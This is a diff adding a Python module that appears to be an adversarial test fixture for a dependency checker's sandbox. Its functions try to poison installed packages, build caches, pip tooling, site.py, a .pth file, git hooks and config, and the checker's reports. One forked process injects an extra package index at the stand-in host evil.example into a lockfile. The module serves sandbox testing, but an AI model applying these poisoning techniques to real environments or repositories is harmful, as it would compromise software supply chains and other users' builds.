@@ -1,0 +1,151 @@
+"""Poisoning what others use after it: installed packages, caches, tools, the repository, homes."""
+
+import contextlib
+import glob
+import os
+import pathlib
+import site
+import sys
+
+EVIL = "\nraise SystemExit('zz-poisoned')\n"
+
+
+def _write_any(paths):
+    """The files of `paths` that took a line; raises the last refusal where none did."""
+    written, refused = [], None
+    for path in paths:
+        try:
+            with open(path, "a") as file:
+                file.write(EVIL)
+            written.append(path)
+        except OSError as error:
+            refused = error
+    if not written and refused:
+        raise refused
+    return written[:3]
+
+
+def _below(folder, pattern, most=400):
+    return [str(path) for path, _ in zip((p for p in pathlib.Path(folder).rglob(pattern) if p.is_file()), range(most), strict=False)]
+
+
+def _scratches():
+    """The run's own folder: it cannot be listed, but its name stands in our own paths."""
+    here = [*sys.path, os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""), os.environ.get("UV_CACHE_DIR", ""), os.environ.get("PIP_CACHE_DIR", "")]
+    return sorted({"/".join(path.split("/")[:3]) for path in here if path.startswith("/tmp/depcheck-")})
+
+
+def other_packages(stage):
+    """Changes the files of a package that the baseline has too: then the baseline would fail, and it would be blamed."""
+    return _write_any(path for folder in {*site.getsitepackages(), *sys.path} if "site-packages" in folder and "/depcheck-" in folder for path in glob.glob(f"{folder}/victim/*.py") + glob.glob(f"{folder}/pytest/*.py"))
+
+
+def other_environments(stage):
+    """Changes the installed files of every environment of this run, found through the run's folder."""
+    return _write_any(path for scratch in _scratches() for path in glob.glob(f"{scratch}/env-*/venv/lib/*/site-packages/victim/*.py"))
+
+
+def planted_bytecode(stage):
+    """Plants compiled code for another package, which Python takes for current."""
+    written = []
+    for folder in sys.path:
+        source = f"{folder}/victim/__init__.py"
+        if "/depcheck-" in folder and os.path.exists(source):
+            for name in (f"{folder}/victim/__pycache__", f"{folder}/zz"):
+                with contextlib.suppress(OSError):
+                    os.makedirs(name, exist_ok=True)
+                    pathlib.Path(name, "__init__.cpython-313.pyc").write_bytes(b"zz")
+                    written.append(name)
+    if sys.pycache_prefix and written == []:
+        return None  # its own set's bytecode is its own; whether another set sees it is judged by the verdict
+    return written
+
+
+def cache_of_uv(stage):
+    """Changes files in the cache from which uv fills environments by hard links."""
+    folders = [os.environ.get("UV_CACHE_DIR", ""), *(f"{scratch}/uv-cache" for scratch in _scratches())]
+    return _write_any(path for folder in folders if folder for path in _below(folder, "*.py") if "/victim/" in path)
+
+
+def cache_of_the_compiler(stage):
+    """Puts its files into the caches of compilers, for the compile of the baseline or another night's."""
+    return _write_any(f"{cache}/zz" for cache in [f"{os.environ.get('DEPCHECK_CACHE', '/var/cache/depcheck')}/index", *(f"{scratch}/compile" for scratch in _scratches())])
+
+
+def tools(stage):
+    """Changes pip-tools and pip in the environment that the next compile uses."""
+    return _write_any([path for home in glob.glob("/var/cache/depcheck/tools/*") for path in _below(home, "__main__.py")] or ["/var/cache/depcheck/tools/zz"])
+
+
+def our_own_code(stage):
+    """Changes depcheck, its interpreter, and what Python runs at every start."""
+    return _write_any(["/opt/depcheck/entrypoint.py", *_below("/opt/depcheck/lib", "sandbox.py"), *glob.glob("/usr/local/lib/python3*/site.py"), "/usr/local/lib/python3.13/site-packages/zz.pth"])
+
+
+def index_cache(stage):
+    """Changes kept pages and files of the local index."""
+    return _write_any(_below("/var/cache/depcheck/index", "*") or ["/var/cache/depcheck/index/zz"])
+
+
+def the_repository(stage):
+    """Changes the repository itself: its lockfile, its code, a hook that git would run."""
+    return _write_any(["/github/workspace/requirements.txt", "/github/workspace/app.py", "/github/workspace/.git/hooks/pre-commit", "/github/workspace/.git/config", "/github/workspace/zz"])
+
+
+def the_report(stage):
+    """Writes the report, the proposal and the logs of checks itself."""
+    folder = "/github/workspace/depcheck-report"
+    return _write_any([f"{folder}/report.json", f"{folder}/proposal/requirements.txt", f"{folder}/logs/01-import.txt", "/github/workspace/depcheck-report"])
+
+
+def the_next_home(stage):
+    """Leaves settings in its home, and looks for those of another stage."""
+    home = os.path.expanduser("~")
+    found = [path for path in glob.glob(f"{home}/.zz-*") if not path.endswith(stage)]
+    with contextlib.suppress(OSError):
+        pathlib.Path(home, f".zz-{stage}").write_text("zz")
+    return found
+
+
+def the_next_copy(stage):
+    """Changes the program's tests in its copy, and looks whether another stage's change is still there."""
+    path = pathlib.Path("app.py")
+    if not path.exists():
+        return None
+    text = path.read_text()
+    if "zz-changed" in text and f"zz-changed {stage}" not in text:
+        return "the copy of an earlier check"
+    with contextlib.suppress(OSError):
+        path.write_text(text + f"# zz-changed {stage}\n")
+
+
+def lockfile_while_it_is_compiled(stage):
+    """Waits for the compiler to write the lockfile and adds a source of packages to it; judged by what is proposed."""
+    if stage == "compile" and os.fork() == 0:
+        os.setsid()
+        folders = {os.path.realpath(path.rpartition("/")[0]) for path in glob.glob("/proc/[0-9]*/cwd") for path in [f"{os.path.realpath(path)}/x"] if "/copy-" in path}
+        for _ in range(200_000):
+            for folder in folders:
+                with contextlib.suppress(OSError):
+                    path = pathlib.Path(folder, "requirements.txt")
+                    text = path.read_text()
+                    if "hostile==2.0" in text and "evil.example" not in text:
+                        path.write_text("--extra-index-url https://evil.example/simple\n" + text)
+        os._exit(0)
+
+
+def replaced_folders(stage):
+    """Puts links in the place of folders that the checker is going to fill or empty."""
+    swapped = []
+    for scratch in _scratches():
+        for name in ("work", "results", "home", "template", "requirements.txt", "project", "venv/pyvenv.cfg"):
+            for path in glob.glob(f"{scratch}/env-*/{name}"):
+                try:
+                    os.rename(path, f"{path}.zz")
+                    os.rename(f"{path}.zz", path)
+                    swapped.append(path)
+                except OSError as error:
+                    refused = error
+    if not swapped:
+        raise refused
+    return swapped
